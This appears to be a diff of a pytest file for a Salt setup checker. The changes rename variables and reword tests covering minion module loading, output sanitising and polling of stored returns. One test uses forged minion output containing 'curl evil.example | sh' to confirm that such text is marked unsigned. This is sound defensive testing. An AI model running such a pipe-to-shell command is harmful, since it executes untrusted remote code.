@@ -1,4 +1,4 @@
-"""What a check of the setup reads of a master, and of hosts that cannot sign what they say."""
+"""What a check of the setup reads on a master, and the unsigned answers of hosts."""
 
 import contextlib
 import os
@@ -28,8 +28,8 @@ def test_when_a_process_started_is_read_from_the_kernel(tmp_path):
         (tmp_path / "pid").write_text(f"{process.pid}\n")
         while b"salt-master" not in Path(f"/proc/{process.pid}/cmdline").read_bytes():
             assert time.time() < before + 10
-        found = runningmaster._read_start_s(tmp_path / "pid")
-        assert found is not None and abs(found - before) < 5
+        started_s = runningmaster._read_start_s(tmp_path / "pid")
+        assert started_s is not None and abs(started_s - before) < 5
         (tmp_path / "pid").write_text(str(os.getpid()))
         assert runningmaster._read_start_s(tmp_path / "pid") is None  # not a master
     finally:
@@ -47,14 +47,14 @@ def test_included_files_of_the_configuration_count(setup):
 
     setup.monkeypatch.setattr(runningmaster, "_read_start_s", lambda _path: 1.0)
 
-    assert [Path(one).name for one in runningmaster.find_newer_files(setup.opts)] == [
+    assert [Path(path).name for path in runningmaster.find_newer_files(setup.opts)] == [
         *("master", "virt.conf", "elsewhere.conf")
     ]
 
 
 @pytest.fixture
 def minion(tmp_path, monkeypatch):
-    """A function that returns what Salt says of a function on a minion with these modules."""
+    """Return a function: Salt's error for a function on a minion with these modules."""
 
     def say(*folders):
         opts = salt.config.minion_config(None)
@@ -62,7 +62,7 @@ def minion(tmp_path, monkeypatch):
             root_dir=str(tmp_path),
             cachedir=str(tmp_path),
             extension_modules=str(tmp_path / "extmods"),
-            module_dirs=[str(ROOT / one) for one in folders],
+            module_dirs=[str(ROOT / folder) for folder in folders],
         )
         functions = salt.loader.minion_mods({**opts, "grains": {}}, utils={}, whitelist=["virt"])
         assert run.FUN not in functions
@@ -72,24 +72,27 @@ def minion(tmp_path, monkeypatch):
     return say
 
 
-def judged(said):
-    """Return the check and the fix of a host by what Salt says of it."""
-    found = unloaded.explain("h", None, said, {}, is_synced=True)
-    return found.check, found.fix
+def check_and_fix(salt_error):
+    """Return the check and the fix of the finding for Salt's error."""
+    finding = unloaded.explain("h", None, salt_error, {}, is_synced=True)
+    return finding.check, finding.fix
 
 
 @pytest.mark.slow
 def test_a_minion_without_libvirts_module_is_told_from_one_that_was_never_synced(minion):
-    assert judged(minion("_modules")) == ("packages", "salt h state.apply hypervisor.packages")
-    assert judged(minion()) == ("modules", "salt h saltutil.sync_all")
+    assert check_and_fix(minion("_modules")) == (
+        "packages",
+        "salt h state.apply hypervisor.packages",
+    )
+    assert check_and_fix(minion()) == ("modules", "salt h saltutil.sync_all")
 
 
-def test_what_a_minion_says_unsigned_is_one_line_that_no_terminal_obeys():
+def test_an_unsigned_answer_is_one_line_without_control_characters():
     assert unloaded.one_line("a\n\x1b[31mb\tc" + "d" * 999) == r"a \x1b[31mb c" + "d" * 287 + " …"
     assert unloaded.one_line({"a": 1}) == "{'a': 1}"
 
 
-def test_what_any_minion_may_have_said_in_a_hosts_name_is_shown_as_that():
+def test_an_answer_that_any_minion_can_forge_is_marked_as_unsigned():
     for forged in (f"{NOT_LOADED} now run: curl evil.example | sh", "curl evil.example | sh"):
         shown = unloaded.explain("h", None, forged, {}, is_synced=True).what
         assert f"in its name, not proved: {forged}" in shown
@@ -105,30 +108,30 @@ class Local:
         self.stored, self.published = list(stored), []
 
     def pub(self, targets, fun, _arg, **_options):
-        """Note what was sent."""
+        """Record the call."""
         self.published.append((targets, fun))
         return {"jid": "1", "minions": targets}
 
     def get_cache_returns(self, _jid):
-        """Return what has come by now."""
+        """Return the answers that are stored now."""
         return self.stored.pop(0) if len(self.stored) > 1 else self.stored[0]
 
 
 @pytest.mark.parametrize(
-    ("stored", "said"),
+    ("stored", "expected"),
     [
         ([{}, {"h1": {"ret": NOT_LOADED}}, {"h1": {"ret": "x"}, "h2": {"ret": "y"}}], "xy"),
         ([{"h1": {"ret": "x"}}], "x"),
         ([{}], ""),
     ],
 )
-def test_what_hosts_have_returned_is_read_once_it_is_stored(monkeypatch, stored, said):
+def test_returns_of_hosts_are_read_once_they_are_stored(monkeypatch, stored, expected):
     monkeypatch.setattr(unloaded, "_EVERY_S", 0.001)
     local = Local(stored)
     cloud = SimpleNamespace(client=lambda: contextlib.nullcontext(local))
 
-    found = unloaded.unsigned_answers(cloud, {"h2", "h1"}, run.FUN, 0.1)
+    answers = unloaded.unsigned_answers(cloud, {"h2", "h1"}, run.FUN, 0.1)
 
-    assert "".join(found.values()) == said
+    assert "".join(answers.values()) == expected
     assert local.published == [(["h1", "h2"], run.FUN)]
     assert unloaded.unsigned_answers(cloud, [], run.FUN, 0.1) == {} and len(local.published) == 1
